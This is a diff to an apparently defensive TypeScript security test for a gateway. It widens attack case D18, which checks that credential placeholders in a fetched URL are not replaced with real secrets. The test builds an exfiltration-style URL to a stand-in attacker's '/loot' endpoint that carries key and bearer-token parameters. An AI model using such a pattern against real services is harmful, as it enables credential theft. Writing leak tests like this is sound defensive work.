@@ -2,8 +2,8 @@ import { request as httpRequest } from 'node:http'
 import { afterAll, beforeAll, expect } from 'vitest'
 import { openStage, type Held, type Login, type Stage } from '../e2e/gateway/harness.ts'
 import { always, startUpstream, type Upstream } from '../e2e/gateway/upstream.ts'
-import { attack } from './attack.ts'
-import { ask, bearer, expectNothingOf, textFronts } from './asking.ts'
+import { attack, fronts } from './attack.ts'
+import { ask, bearer, expectNothingOf } from './asking.ts'
 
 let stage: Stage
 let service: Upstream
@@ -39,7 +39,7 @@ afterAll(async () => {
   await attacker.close()
 })
 
-attack('D18', 'a placeholder in a URL that the service fetches stays a placeholder', textFronts, async (front) => {
+attack('D18', 'a placeholder in a URL that the service fetches stays a placeholder', fronts, async (front) => {
   for (const held of [echo, keyed]) {
     const placeholder = login.placeholder(held)
     const url = `${attacker.origin}/loot?key=${placeholder}&authorization=Bearer%20${placeholder}`
